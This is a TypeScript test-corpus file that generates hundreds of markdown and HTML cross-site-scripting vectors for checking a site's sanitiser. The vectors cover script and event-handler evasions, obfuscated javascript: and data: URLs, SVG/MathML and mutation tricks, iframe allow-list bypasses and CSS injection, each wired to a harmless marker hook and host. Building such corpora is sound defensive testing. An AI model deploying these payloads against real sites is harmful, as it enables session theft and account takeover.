import { ALLOWED_TAGS } from '@cairn/shared/markdown/policy';

/**
 * The XSS corpus: markdown/HTML that must come out of the site's renderer harmless. Each vector,
 * if anything in it ever ran, calls `__xss(id)` or requests the marker host, which the browser
 * test watches (see xss.test.ts). Written as templates with these placeholders, filled in per
 * vector by `buildCorpus`:
 *
 *   {x}    the hook call, `__xss(<id>)` (no quotes, so it survives every attribute context)
 *   {n}    the vector's number
 *   {u}    a marker URL, `https://xss.invalid/<id>`: a request to it means something loaded
 *   {b64}  base64 of an HTML document that calls the hook and requests the marker
 *
 * Vectors with a literal NUL cannot be stored (the API refuses NUL in text); the browser test
 * checks that refusal and renders the rest.
 *
 * To add a vector, append its template to the group it belongs to (or start a group). Mark it
 * `endsDocument` only when it, or the sanitiser's answer to it, removes everything after it
 * (<plaintext>; namespace confusion that DOMPurify answers by dropping the rest).
 */

export const MARKER_HOST = 'xss.invalid';

export type XssGroup =
  | 'filter-evasion'
  | 'url-schemes'
  | 'markdown-urls'
  | 'url-attributes'
  | 'svg-mathml'
  | 'mutation'
  | 'iframes'
  | 'css'
  | 'attribute-breaking'
  | 'event-handlers'
  | 'active-elements'
  | 'allow-list-edges';

export interface XssVector {
  /** 1-based, stable within one corpus build; the number the hooks report. */
  id: number;
  group: XssGroup;
  /** Markdown with raw HTML, as an author would type it. */
  source: string;
  /** Nothing after it survives, so it is placed last in a document and has no end marker. */
  endsDocument?: boolean;
}

interface Template {
  group: XssGroup;
  source: string;
  endsDocument?: boolean;
}

const group = (name: XssGroup, sources: readonly string[]): Template[] => sources.map((source) => ({ group: name, source }));

const FILTER_EVASION = group('filter-evasion', [
  '<script>{x}</script>',
  '<SCRIPT>{x}</SCRIPT>',
  '<ScRiPt>{x}</sCrIpT>',
  '<script src="data:text/javascript,{x}"></script>',
  '<script\n>{x}</script\n>',
  '<script/any>{x}</script>',
  '<<script>{x}//<</script>',
  '<scr<script>ipt>{x}</scr</script>ipt>',
  'text <script>{x}</script> inline',
  '<img src=x onerror={x}>',
  '<IMG SRC=x ONERROR={x}>',
  '<iMg sRc=x OnErRoR={x}>',
  '<img/src=x/onerror={x}>',
  '<img src=x\tonerror={x}>',
  '<img src=x\nonerror={x}>',
  '<img src=x onerror\n=\n{x}>',
  '<img src=x\fonerror={x}>',
  '<img src=x on\u0000error={x}>',
  '<scr\u0000ipt>{x}</scr\u0000ipt>',
  '<img\u0000src=x onerror={x}>',
  '<scr&#0;ipt>{x}</scr&#0;ipt>',
  '<img src=x onerror=&#0;{x}>',
  '<img src=x onerror=&#x5f;&#x5f;xss({n})>',
  '<img src=x onerror=&#95&#95xss({n})>',
  '<img src=x onerror="{x}"',
  '<div><img src=x onerror={x}',
  '<img src=x onerror={x} <p>unclosed',
  '<!--<img src="--><img src=x onerror={x}//">',
  '<!-- --!><img src=x onerror={x}> -->',
  '<!--[if gte IE 4]><script>{x}</script><![endif]-->',
  '<![CDATA[><img src=x onerror={x}>]]>',
  '<?xml x="?><img src=x onerror={x}>"?>',
  '<!x><img src=x onerror={x}>',
  '<img """><script>{x}</script>">',
  '</p><img src=x onerror={x}><p>',
  '<p/onmouseover={x}>slash separator</p>',
  '<body onload={x}>',
  '<image src=x onerror={x}>',
  '<isindex type=image src=x onerror={x}>',
  '<marquee onstart={x}>marquee</marquee>',
  '<bgsound src="javascript:{x}">',
  '<xss onmouseover={x} tabindex=0>custom element</xss>',
  '<x-widget onclick={x}>custom</x-widget>',
  '<noscript><script>{x}</script></noscript>',
]);

/** Spellings of dangerous URLs, each tried in the link and image contexts below. */
const HOSTILE_URLS = [
  'javascript:{x}',
  'JaVaScRiPt:{x}',
  ' javascript:{x}',
  '\u0001javascript:{x}',
  'java\tscript:{x}',
  'java\nscript:{x}',
  'java&#x09;script:{x}',
  'java&#10;script:{x}',
  'jav&#x0D;ascript:{x}',
  'java&Tab;script:{x}',
  'java&#0;script:{x}',
  '%00javascript:{x}',
  '&#106;avascript:{x}',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{x}',
  '&#0000106;&#0000097;vascript:{x}',
  'javascript&colon;{x}',
  'javascript&#58;{x}',
  '%6Aavascript:{x}',
  'javascript%3A{x}',
  'javascript://%0A{x}',
  'vbscript:{x}',
  'VBScript:{x}',
  'livescript:{x}',
  'data:text/html,<script>{x}</script>',
  'data:text/html;base64,{b64}',
  'DaTa:text/html;base64,{b64}',
  'data:image/../text/html;base64,{b64}',
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{x}'/>",
];

const URL_CONTEXTS = ['<a href="URL">link {n}</a>', '<img src="URL" alt="image {n}">', '[link {n}](URL)', '![image {n}](URL)', '[link {n}][ref-{n}]\n\n[ref-{n}]: URL'];

const URL_SCHEMES: Template[] = URL_CONTEXTS.flatMap((context) => HOSTILE_URLS.map((url) => ({ group: 'url-schemes' as const, source: context.replace('URL', url) })));

const MARKDOWN_URLS = group('markdown-urls', [
  '<javascript:{x}>',
  '<JAVASCRIPT:{x}>',
  '<data:text/html;base64,{b64}>',
  '<vbscript:{x}>',
  '[link](<javascript:{x}>)',
  '[link](javascript:{x} "title")',
  '[link](  javascript:{x}  )',
  '[link](javascript\\:{x})',
  '[link](java%0ascript:{x})',
  '[link](java%09script:{x})',
  '![image](<data:text/html,<script>{x}</script>>)',
  '[shortcut]\n\n[shortcut]: javascript:{x}',
  '[collapsed][]\n\n[collapsed]: <javascript:{x}> "title"',
  '![image ref][img-{n}]\n\n[img-{n}]: data:text/html;base64,{b64}',
  '[link](https://ok.test "title\\" onmouseover=\\"{x}")',
  '![alt" onerror="{x}](/a.png)',
  '![alt](/a.png "t\\" onerror=\\"{x}")',
  '[<img src=x onerror={x}>](https://ok.test)',
  '[link](https://ok.test)<img src=x onerror={x}>',
  '`<img src=x onerror={x}>`',
  '```html\n<img src=x onerror={x}>\n<script>{x}</script>\n```',
  '```<img src=x onerror={x}>\nfence info\n```',
  '```js" onmouseover="{x}\ncode\n```',
  '```xml\n</code></pre><img src=x onerror={x}>\n```',
  '    <img src=x onerror={x}> indented code',
  '# <img src=x onerror={x}> heading',
  '| a | b |\n| - | - |\n| <img src=x onerror={x}> | [c](javascript:{x}) |',
  '*<img src=x onerror={x}>* and **<svg onload={x}>**',
  '> <img src=x onerror={x}>\n> [q](javascript:{x})',
  '- [ ] <img src=x onerror={x}>\n- [x] task',
  '\\<img src=x onerror={x}>',
  '&lt;img src=x onerror={x}&gt;',
  'www.ok.test"onmouseover="{x}',
  'https://ok.test/"onmouseover="{x}"',
  'https://ok.test/<img/src=x/onerror={x}>',
  'mailto:x@ok.test?body=<script>{x}</script>',
  '<details><summary>more</summary>\n\n[inner](javascript:{x})\n\n</details>',
  '[link](#" onclick="{x})',
]);

/** URL-bearing attributes of every kind, with a hostile value. */
const URL_ATTRIBUTES = group('url-attributes', [
  '<video src="javascript:{x}" poster="javascript:{x}" controls></video>',
  '<video controls><source src="javascript:{x}"></video>',
  '<audio src="javascript:{x}" controls></audio>',
  '<picture><source srcset="javascript:{x}"><img src="/a.png" alt=""></picture>',
  '<img srcset="javascript:{x} 1x, /a.png 2x" alt="">',
  '<img srcset="/a.png 1x,javascript:{x} 2x" alt="">',
  '<img srcset=",,javascript:{x} 2x" alt="">',
  '<img srcset="data:text/html;base64,{b64} 1x" alt="">',
  '<blockquote cite="javascript:{x}">quote</blockquote>',
  '<q cite="javascript:{x}">q</q>',
  '<a xlink:href="javascript:{x}">xlink</a>',
  '<a href="javascript:{x}" href="/ok">duplicate href</a>',
  '<area href="javascript:{x}" shape="rect" coords="0,0,100,100">',
  '<map name="m{n}"><area href="javascript:{x}" shape="default"></map><img src="/a.png" usemap="#m{n}" alt="">',
  '<table background="javascript:{x}"><tr><td background="{u}">bg</td></tr></table>',
  '<img dynsrc="javascript:{x}" lowsrc="{u}" alt="">',
  '<a href="#" ping="{u}">ping</a>',
  '<img src="/a.png" longdesc="javascript:{x}" alt="">',
  '<div data-href="javascript:{x}" data-x="{u}">data attributes</div>',
  '<a href="/ok" formaction="javascript:{x}">formaction on a link</a>',
  '<img src="{u}" alt="" onerror={x}>',
  '<video poster="{u}" src="{u}" onerror={x} onloadstart={x}></video>',
]);

const SVG_MATHML = group('svg-mathml', [
  '<svg onload={x}>',
  '<svg/onload={x}>',
  '<svg><script>{x}</script></svg>',
  '<svg><script href="data:text/javascript,{x}"></script></svg>',
  '<svg><animate onbegin={x} attributeName=x dur=1s></svg>',
  '<svg><set onbegin={x} attributeName=x to=1></svg>',
  '<svg><animatetransform onbegin={x}></svg>',
  '<svg><discard onbegin={x}></svg>',
  '<svg><a><animate attributeName=href values=javascript:{x} /><text x=20 y=20>animate href</text></a></svg>',
  '<svg><a><set attributeName=href to=javascript:{x} /><text x=20 y=20>set href</text></a></svg>',
  '<svg><a xlink:href="javascript:{x}"><text x=20 y=20>xlink</text></a></svg>',
  '<svg><a href="javascript:{x}"><circle r=40></circle></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"></use></svg>',
  '<svg><use xlink:href="{u}#x"></use></svg>',
  '<svg><foreignObject><img src=x onerror={x}></foreignObject></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>{x}</script>"></iframe></foreignObject></svg>',
  '<svg><image href=x onerror={x}></image></svg>',
  '<svg><feImage href="{u}"></feImage></svg>',
  '<svg><style><img src=x onerror={x}></style></svg>',
  '<svg><title><img src=x onerror={x}></title></svg>',
  '<svg><desc><img src=x onerror={x}></desc></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{x}</handler></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror={x}>">',
  '<svg><p><style><img src=x onerror={x}></style></p></svg>',
  '<math><mi xlink:href="javascript:{x}">mi</mi></math>',
  '<math href="javascript:{x}"><mi>math href</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:{x}">maction</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror={x}></annotation-xml></math>',
  '<math><mtext><img src=x onerror={x}></mtext></math>',
  '<math><style><img src=x onerror={x}></style></math>',
  '<math><mi><svg><img src=x onerror={x}></svg></mi></math>',
]);

const MUTATION = group('mutation', [
  '<noscript><p title="</noscript><img src=x onerror={x}>"></noscript>',
  '<template><img src=x onerror={x}></template>',
  '<template><script>{x}</script></template>',
  '<style><img src=x onerror={x}></style>',
  '<style></style><img src=x onerror={x}>',
  '<textarea><img src=x onerror={x}></textarea>',
  '<textarea></textarea><img src=x onerror={x}>',
  '<title><img src=x onerror={x}></title>',
  '<title></title><img src=x onerror={x}>',
  '<xmp><img src=x onerror={x}></xmp>',
  '<xmp><p title="</xmp><img src=x onerror={x}>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror={x}>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror={x}>"></noframes>',
  '<iframe><img title="</iframe><img src=x onerror={x}>"></iframe>',
  '<listing><img src=x onerror={x}></listing>',
  '<select><template><style><img src=x onerror={x}></style></template></select>',
  '<table><style><img src=x onerror={x}></style></table>',
  '<table><img src=x onerror={x}></table>',
  '<a title="<img src=x onerror={x}>">title with markup</a>',
  '<abbr title="</abbr><img src=x onerror={x}>">abbr</abbr>',
  '<div><svg><p><style><img src=x onerror={x}></style></p></svg></div>',
  '<a href="/ok"><svg><p><style><a id="</style><img src=1 onerror={x}>"></a></style></p></svg></a>',
  '<select><option><img src=x onerror={x}></option></select>',
  '<object><param name=x value=y><img src=x onerror={x}></object>',
  '<table><tr><td><select><option><iframe srcdoc="<script>{x}</script>">',
  '<p>unclosed<div><span><img src=x onerror={x}></p></div>',
  '<h1 id="location">clobber location</h1><kbd id="cookie">clobber cookie</kbd>',
  '<h2 id="__xss">clobber the hook</h2><h3 id="__CAIRN_CONFIG__">clobber config</h3>',
  '<img name="getElementById" src="/a.png" alt=""><img name="body" src="/a.png" alt="">',
  '<details open><summary><style><img src=x onerror={x}></style></summary></details>',
  '<pre><code><img src=x onerror={x}></code></pre>',
  '<code>&lt;/code&gt;<img src=x onerror={x}></code>',
]);

const IFRAMES = group('iframes', [
  '<iframe srcdoc="<script>{x}</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror={x}&gt;"></iframe>',
  '<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa" srcdoc="<script>{x}</script>"></iframe>',
  '<iframe src="javascript:{x}"></iframe>',
  '<iframe src="data:text/html;base64,{b64}"></iframe>',
  '<iframe src="{u}"></iframe>',
  '<iframe src="https://evil.invalid/embed/aaaaaaaaaaa"></iframe>',
  '<iframe src="https://www.youtube.com.xss.invalid/embed/aaaaaaaaaaa"></iframe>',
  '<iframe src="https://evilwww.youtube.com/embed/aaaaaaaaaaa"></iframe>',
  '<iframe src="https://www.youtube.com@xss.invalid/embed/aaaaaaaaaaa"></iframe>',
  '<iframe src="https://xss.invalid@www.youtube.com/embed/aaaaaaaaaaa"></iframe>',
  '<iframe src="https://www.youtube.com%2exss.invalid/embed/aaaaaaaaaaa"></iframe>',
  '<iframe src="https:\\\\xss.invalid\\embed\\aaaaaaaaaaa"></iframe>',
  '<iframe src="https://www.youtube.com\\@xss.invalid/embed/aaaaaaaaaaa"></iframe>',
  '<iframe src="//www.youtube.com/embed/aaaaaaaaaaa"></iframe>',
  '<iframe src="//xss.invalid/embed/aaaaaaaaaaa"></iframe>',
  '<iframe src="http://www.youtube.com/embed/aaaaaaaaaaa"></iframe>',
  '<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa/../../../{n}"></iframe>',
  '<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa?start=1&onload={x}&autoplay=1"></iframe>',
  '<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa?start=1%22onload=%22{x}"></iframe>',
  '<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa?start=1e3&end=javascript:{x}"></iframe>',
  '<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa#javascript:{x}"></iframe>',
  '<iframe src="https://www.youtube.com:443.xss.invalid/embed/aaaaaaaaaaa"></iframe>',
  '<iframe src="https://WWW.YOUTUBE.COM/embed/aaaaaaaaaaa" onload={x} name="x" sandbox="allow-scripts" allow="camera"></iframe>',
  '<iframe src="&#x68;ttps://xss.invalid/embed/aaaaaaaaaaa"></iframe>',
  '<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa" start="1 onload={x}" end="javascript:{x}"></iframe>',
  '<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa" width="100%&quot; onload=&quot;{x}" allowfullscreen="javascript:{x}" frameborder="1 onload={x}"></iframe>',
  '<iframe src="https://discord.com/widget?id=123456789012345678&x=javascript:{x}"></iframe>',
  '<iframe src="https://discord.com.xss.invalid/widget?id=123456789012345678"></iframe>',
  '<iframe src="https://discord.com/widget/../../{n}?id=123456789012345678"></iframe>',
  '<iframe src="https://discord.com/widget?id=1234567890123456789012"></iframe>',
  '<iframe src="https://discord.com/widget?id=123456789012345678" srcdoc="<img src=x onerror={x}>"></iframe>',
  '<IFRAME SRC="https://www.youtube-nocookie.com/embed/aaaaaaaaaaa?end=10" ONLOAD={x}></IFRAME>',
  '<iframe\tsrc="https://www.youtube.com/embed/aaaaaaaaaaa"\tsrcdoc="<script>{x}</script>"></iframe>',
  '<frame src="javascript:{x}">',
  '<portal src="{u}"></portal>',
  '<fencedframe src="{u}"></fencedframe>',
]);

const CSS = group('css', [
  '<img src="/a.png" alt="" style="background:url(javascript:{x})">',
  '<img src="/a.png" alt="" style="width:expression({x})">',
  '<img src="/a.png" alt="" style="x:\\65 xpression({x})">',
  '<img src="/a.png" alt="" style="background-image:url({u})">',
  '<img src="/a.png" alt="" style="-moz-binding:url({u}#x)">',
  '<img src="/a.png" alt="" style="image-rendering:pixelated;background:url({u})">',
  '<img src="/a.png" alt="" style="image-rendering: pixelated; } * { background: url({u})">',
  '<img src="/a.png" alt="" style="float:left\\;background:url({u})">',
  '<img src="/a.png" alt="" style="float:left/**/;background:url({u})">',
  '<img src="/a.png" alt="" style="float:left !important; list-style:url({u})">',
  '<img src="/a.png" alt="" style="FLOAT: LEFT; BACKGROUND: URL({u})">',
  '<img src="/a.png" alt="" style="float:le\\66t; content:url({u})">',
  '<img src="/a.png" alt="" style="float: &#108;eft; background: url({u})">',
  '<img src="/a.png" alt="" style="float:left;background:u&#x72;l({u})">',
  '<img src="/a.png" alt="" style="float:url({u})">',
  '<img src="/a.png" alt="" style="image-rendering:url({u})">',
  '<table><tr><td style="text-align:expression({x})">td</td><th style="@import \'{u}\'">th</th></tr></table>',
  '<table><tr><td style="behavior:url({u})">behavior</td></tr></table>',
  '<table><tr><td style="text-align:center;position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99">overlay</td></tr></table>',
  '<style>@import \'{u}\';</style>',
  '<style>body{background:url({u})}</style>',
  '<style>img{background:url("javascript:{x}")}</style>',
  '<link rel="stylesheet" href="{u}">',
  '<div style="background:url({u})">style on div</div>',
  '<p style="background:url({u})">style on p</p>',
  '<span style="background:url({u})">style on span</span>',
  '<svg><style>*{background:url({u})}</style></svg>',
  '<img src="/a.png" alt="" style="animation-name:x" onanimationstart={x}>',
]);

const ATTRIBUTE_BREAKING = group('attribute-breaking', [
  '<img src="/a.png"onerror="{x}">',
  "<img src='x'onerror='{x}'>",
  '<img src=`x`onerror={x}>',
  '<img src="x" alt="x"" onerror="{x}">',
  '<img alt="\\" onerror={x}//" src=x>',
  "<a href=\"/ok\" title='x' onclick={x} >quotes</a>",
  '<a title="x&quot; onmouseover=&quot;{x}">entity quote</a>',
  '<img src=x alt=x onerror={x} alt=y>',
  '<img src="x" alt="<x onerror={x}>">',
  '<img src=x onerror=&#0000095;&#0000095;xss({n})>',
  '<img src="x" onerror=\'&#x5F;&#x5F;xss({n})\'>',
  '<img src=x onerror=\u00a0{x}>',
  '<img src=x =onerror={x}>',
  '<img src=x/onerror={x}>',
  '<img src=x onerror\t=\t{x}>',
  '<a href=/ok onmouseover={x} href=javascript:{x}>duplicate attributes</a>',
  '<img src=x alt=1 `onerror`={x}>',
  '<img src=x "onerror"={x}>',
  '<img src=x \'onerror\'={x}>',
  '<img src=x onerror=`{x}`>',
  '<img src=x on error={x}>',
  '<img src=x onerror=\u3000{x}>',
  '<img src=x one\u00adrror={x}>',
  '<img src="/a.png" alt="" title="x" title="y" onerror="{x}" onerror="{x}">',
]);

/** Every allowed tag, in a context where it parses, carrying every kind of handler. */
const HANDLERS =
  'onclick={x} ondblclick={x} onmouseover={x} onmouseenter={x} onpointerover={x} onfocus={x} onfocusin={x} onblur={x} onerror={x} onload={x} ontoggle={x} onbegin={x} onscroll={x} onkeydown={x} oninput={x} onchange={x} tabindex=0 autofocus';

const TAG_CONTEXTS: Readonly<Record<string, string>> = {
  td: '<table><tr><td @H>cell</td></tr></table>',
  th: '<table><tr><th @H>header</th></tr></table>',
  tr: '<table><tr @H><td>row</td></tr></table>',
  tbody: '<table><tbody @H><tr><td>body</td></tr></tbody></table>',
  thead: '<table><thead @H><tr><td>head</td></tr></thead></table>',
  tfoot: '<table><tfoot @H><tr><td>foot</td></tr></tfoot></table>',
  caption: '<table><caption @H>caption</caption><tr><td>c</td></tr></table>',
  col: '<table><colgroup><col @H></colgroup><tr><td>col</td></tr></table>',
  colgroup: '<table><colgroup @H></colgroup><tr><td>colgroup</td></tr></table>',
  li: '<ul><li @H>item</li></ul>',
  dd: '<dl><dt>t</dt><dd @H>dd</dd></dl>',
  dt: '<dl><dt @H>dt</dt><dd>d</dd></dl>',
  summary: '<details><summary @H>summary</summary>body</details>',
  source: '<video controls><source src=x @H></video><picture><source srcset=x @H><img src=x alt=""></picture>',
  img: '<img src=x alt="" @H>',
  input: '<input type=checkbox @H> <input type=text @H>',
  br: 'line<br @H>break',
  hr: '<hr @H>',
  iframe: '<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa" @H></iframe>',
  video: '<video src=x controls @H></video>',
  audio: '<audio src=x controls @H></audio>',
  details: '<details open @H><summary>s</summary>details</details>',
  a: '<a href="/ok" @H>link</a>',
};

const EVENT_HANDLERS: Template[] = ALLOWED_TAGS.map((tag) => ({
  group: 'event-handlers' as const,
  source: (TAG_CONTEXTS[tag] ?? `<${tag} @H>${tag}</${tag}>`).replaceAll('@H', HANDLERS),
}));

const ACTIVE_ELEMENTS = group('active-elements', [
  '<form action="javascript:{x}"><button>go</button></form>',
  '<form action="{u}" method="post"><input type="submit" value="send"></form>',
  '<form><button formaction="javascript:{x}">go</button></form>',
  '<button formaction="javascript:{x}">bare button</button>',
  '<input type="submit" formaction="javascript:{x}" value="submit">',
  '<input type="image" src="x" onerror={x}>',
  '<input type="image" formaction="javascript:{x}" src="/a.png">',
  '<form id="f{n}"></form><button form="f{n}" formaction="javascript:{x}">outside</button>',
  '<isindex action="javascript:{x}" type="image">',
  '<select autofocus onfocus={x}><option>o</option></select>',
  '<textarea autofocus onfocus={x}>t</textarea>',
  '<keygen autofocus onfocus={x}>',
  '<meta http-equiv="refresh" content="0;url=javascript:{x}">',
  '<meta http-equiv="refresh" content="0;url=data:text/html;base64,{b64}">',
  '<meta http-equiv="refresh" content="0; url={u}">',
  '<meta http-equiv="set-cookie" content="x={n}">',
  '<meta charset="x-imap4-modified-utf7">',
  '<base href="javascript:{x}//"><a href="/relative">relative after base</a>',
  '<base href="{u}/"><img src="relative.png" alt="">',
  '<object data="javascript:{x}"></object>',
  '<object data="data:text/html;base64,{b64}"></object>',
  '<object type="text/x-scriptlet" data="{u}"></object>',
  '<object data="{u}" type="image/svg+xml"></object>',
  '<embed src="javascript:{x}">',
  '<embed src="data:text/html;base64,{b64}">',
  '<embed src="{u}" type="image/svg+xml">',
  '<applet code="x" codebase="{u}"></applet>',
  '<link rel="import" href="{u}">',
  '<link rel="preload" href="{u}" as="script">',
  '<link rel="prefetch" href="{u}">',
  '<script src="{u}"></script>',
  '<script type="module">import "{u}"</script>',
  '<dialog open onclose={x}>dialog</dialog>',
  '<button popovertarget="p{n}">open</button><div id="p{n}" popover onbeforetoggle={x}>popover</div>',
  '<a href="{u}" target="_blank" rel="opener">new window</a>',
]);

const ALLOW_LIST_EDGES = group('allow-list-edges', [
  '<a href="javascript:{x}" rel="opener">allowed rel, bad href</a>',
  '<a href="/ok" rel="opener" target="_blank">own link asking for opener</a>',
  '<h1 id="__proto__">proto</h1><h2 id="constructor">constructor</h2>',
  '<h4 id="x&quot; onclick=&quot;{x}">quoted id</h4>',
  '<kbd id="a" onclick={x}>kbd</kbd>',
  '<input type="checkbox" checked onclick={x}>',
  '<input type="text" onfocus={x} autofocus>',
  '<input type="CHECKBOX" disabled=false onchange={x}>',
  '<input type="checkbox&quot; onclick=&quot;{x}">',
  '<input type="checkbox" formaction="javascript:{x}" form="x">',
  '<p align="center&quot; onmouseover=&quot;{x}">align</p>',
  '<div align="javascript:{x}">align with a url</div>',
  '<img src="/a.png" alt="" style="image-rendering:pixelated">',
  '<table><tr><td style="text-align:left" onclick={x}>allowed style</td></tr></table>',
  '<span class="hljs-<img src=x onerror={x}>">class</span>',
  '<pre class="language-&quot;><img src=x onerror={x}>">pre</pre>',
  '<code class="language-js onmouseover={x} hljs-x">code</code>',
  '<ol start="1 onmouseover={x}" type="javascript:{x}"><li value="javascript:{x}">li</li></ol>',
  '<del datetime="&quot;><img src=x onerror={x}>">del</del>',
  '<abbr title="<script>{x}</script>">abbr</abbr>',
  '<details open ontoggle={x}><summary>s</summary>toggle</details>',
  '<a href="mailto:x@ok.test?body=<script>{x}</script>">mail</a>',
  '<a href="tel:javascript:{x}">tel</a>',
  '<a href="ftp://ok.test/javascript:{x}">ftp</a>',
  '<a href="./javascript:{x}">dot slash</a>',
  '<a href="#javascript:{x}">hash</a>',
  '<a href="/\\javascript:{x}">slash backslash</a>',
  '<a href="//xss.invalid/{n}">protocol-relative</a>',
  '<a href="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'{x}\'/>">svg data link</a>',
  '<a href="data:image/png;base64,iVBORw0KGgo" onclick={x}>png data link</a>',
  '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'{x}\'><script>{x}</script></svg>" alt="">',
  '<img src="https://img.shields.io/badge/{n}.svg" onerror={x} alt="">',
  '<img src="/v2/image-proxy?url=x&errorredirect=javascript:{x}" alt="">',
  '<img src="//xss.invalid/v2/image-proxy?url={u}&errorredirect={u}" alt="">',
  '<img src="https://i.imgur.com/x.png" alt="" width="1 onerror={x}" height="javascript:{x}" loading="x onerror={x}">',
  '<video src="/v.mp4" preload="auto" controls muted playsinline loop onerror={x}></video>',
  '<img src="/a.png" alt="" title="&lt;script&gt;{x}&lt;/script&gt;">',
  '<table border="1 onmouseover={x}" width="javascript:{x}" align="x"><tr><td colspan="2 onclick={x}">t</td></tr></table>',
]);

const ENDING_DOCUMENTS: Template[] = [
  { group: 'filter-evasion', source: '<plaintext><img src=x onerror={x}>', endsDocument: true },
  { group: 'svg-mathml', source: '<math><mtext><table><mglyph><style><img src=x onerror={x}>', endsDocument: true },
  { group: 'svg-mathml', source: '<form><math><mtext></form><form><mglyph><style></math><img src onerror={x}>', endsDocument: true },
  { group: 'iframes', source: '<frameset onload={x}><frame src="{u}"></frameset>', endsDocument: true },
];

const TEMPLATES: readonly Template[] = [
  ...FILTER_EVASION,
  ...URL_SCHEMES,
  ...MARKDOWN_URLS,
  ...URL_ATTRIBUTES,
  ...SVG_MATHML,
  ...MUTATION,
  ...IFRAMES,
  ...CSS,
  ...ATTRIBUTE_BREAKING,
  ...EVENT_HANDLERS,
  ...ACTIVE_ELEMENTS,
  ...ALLOW_LIST_EDGES,
  ...ENDING_DOCUMENTS,
];

function fill(source: string, id: number): string {
  const payload = btoa(`<script>__xss(${id})</script><img src="https://${MARKER_HOST}/${id}">`);
  return source
    .replaceAll('{x}', `__xss(${id})`)
    .replaceAll('{n}', String(id))
    .replaceAll('{u}', `https://${MARKER_HOST}/${id}`)
    .replaceAll('{b64}', payload);
}

export const XSS_VECTORS: readonly XssVector[] = TEMPLATES.map((template, index) => ({
  id: index + 1,
  group: template.group,
  source: fill(template.source, index + 1),
  ...(template.endsDocument ? { endsDocument: true } : {}),
}));
